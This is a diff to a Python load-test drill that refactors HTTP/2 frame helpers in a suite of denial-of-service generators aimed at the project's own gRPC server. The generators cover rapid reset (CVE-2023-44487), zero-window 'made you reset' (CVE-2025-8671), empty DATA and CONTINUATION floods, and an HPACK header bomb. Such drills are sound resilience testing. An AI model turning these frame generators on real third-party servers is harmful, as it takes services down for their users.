@@ -11,7 +11,9 @@ from collections.abc import Callable, Iterator
 from loadtest.drill.hostile import peer as h2
 from loadtest.drill.hostile.attacker import AttackConfig, Attacker, EndedError, Responses, status_of
 from loadtest.drill.hostile.messages import GRPC_LOOKUP, GRPC_RANK, full_answer, lookup_head, lookup_of_rows, sized, tag
-from loadtest.drill.hostile.peer import END_HEADERS, END_STREAM, Http2Peer, call_headers, frame
+from loadtest.drill.hostile.peer import Http2Peer, call_headers
+from serving.api.grpc import wire
+from serving.api.grpc.wire import END_HEADERS, END_STREAM, frame
 
 GET = b"GET /healthz HTTP/1.1\r\nhost: drill\r\n\r\n"
 METRICS = b"GET /metrics HTTP/1.1\r\nhost: drill\r\n\r\n"
@@ -198,7 +200,7 @@ def frames(made: Frames, each: int) -> Run:
             peer = Http2Peer()
             now[:] = [peer]
             # Windows stay as they are: their updates are an attack of their own.
-            yield h2.PREFACE + h2.settings({})
+            yield wire.PREFACE + wire.settings({})
             yield from made(attacker, peer)
 
         def on_data(data: bytes) -> bytes:
@@ -218,7 +220,7 @@ def same_frame(made: bytes, count: int = 500) -> Run:
 
 
 def _head(path: str, stream: int, flags: int = END_HEADERS) -> bytes:
-    return frame(h2.HEADERS, flags, stream, call_headers(path))
+    return frame(wire.HEADERS, flags, stream, call_headers(path))
 
 
 def one_byte_data(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
@@ -253,7 +255,7 @@ def empty_data(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
     """Send DATA frames without data (CVE-2019-9518)."""
     stream = peer.open()
     yield _head(GRPC_RANK, stream)
-    yield from _endless(frame(h2.DATA, 0, stream) * 700)
+    yield from _endless(frame(wire.DATA, 0, stream) * 700)
 
 
 def calls_with(after: Callable[[int], bytes]) -> Frames:
@@ -263,14 +265,14 @@ def calls_with(after: Callable[[int], bytes]) -> Frames:
         block = call_headers(GRPC_RANK)
         while True:
             streams = [peer.open(watched=False) for _ in range(50)]
-            yield b"".join(frame(h2.HEADERS, END_HEADERS, one, block) + after(one) for one in streams)
+            yield b"".join(frame(wire.HEADERS, END_HEADERS, one, block) + after(one) for one in streams)
 
     return made
 
 
-rapid_reset = calls_with(lambda stream: frame(h2.RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
+rapid_reset = calls_with(lambda stream: frame(wire.RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
 """Cancel calls at once (CVE-2023-44487)."""
-made_resets = calls_with(lambda stream: h2.window_update(stream, 0))
+made_resets = calls_with(lambda stream: wire.window_update(stream, 0))
 """Make calls that the server must reset itself (CVE-2025-8671): a window update of zero follows each."""
 
 
@@ -279,8 +281,8 @@ def continuation(piece: bytes) -> Frames:
 
     def made(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
         stream = peer.open(watched=False)
-        yield frame(h2.HEADERS, 0, stream, call_headers(GRPC_RANK))
-        yield from _endless(frame(h2.CONTINUATION, 0, stream, piece) * 500)
+        yield frame(wire.HEADERS, 0, stream, call_headers(GRPC_RANK))
+        yield from _endless(frame(wire.CONTINUATION, 0, stream, piece) * 500)
 
     return made
 
@@ -293,16 +295,16 @@ def new_headers(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
         for _ in range(HEADERS_EACH):
             value += 1
             made += h2.header(b"x-%d" % value, b"v%d" % value, indexed=True)
-        yield frame(h2.HEADERS, END_HEADERS | END_STREAM, peer.open(), call_headers(NO_METHOD) + bytes(made))
+        yield frame(wire.HEADERS, END_HEADERS | END_STREAM, peer.open(), call_headers(NO_METHOD) + bytes(made))
 
 
 def header_bomb(attacker: Attacker, peer: Http2Peer) -> Iterator[bytes]:
     """Send a header of 4,000 bytes that is remembered once, and refer to it 16,000 times with a byte each."""
     block, stored = call_headers(NO_METHOD), h2.header(b"x", b"y" * 3_900, indexed=True)
-    yield frame(h2.HEADERS, END_HEADERS | END_STREAM, peer.open(), block + stored)
-    references = b"\xbe" * (h2.FRAME_BYTES - len(block))
+    yield frame(wire.HEADERS, END_HEADERS | END_STREAM, peer.open(), block + stored)
+    references = b"\xbe" * (wire.DEFAULT_FRAME_SIZE - len(block))
     while True:
-        yield frame(h2.HEADERS, END_HEADERS | END_STREAM, peer.open(), block + references)
+        yield frame(wire.HEADERS, END_HEADERS | END_STREAM, peer.open(), block + references)
 
 
 def untaken(attacker: Attacker) -> None:
@@ -315,7 +317,7 @@ def untaken(attacker: Attacker) -> None:
         body = h2.message(lookup_of_rows(attacker.config, 400))
         for _ in range(CALLS_UNTAKEN):
             stream = peer.open()
-            attacker.send(sock, _head(GRPC_LOOKUP, stream) + frame(h2.DATA, END_STREAM, stream, body))
+            attacker.send(sock, _head(GRPC_LOOKUP, stream) + frame(wire.DATA, END_STREAM, stream, body))
             attacker.tally.messages += 1
         return sock
 
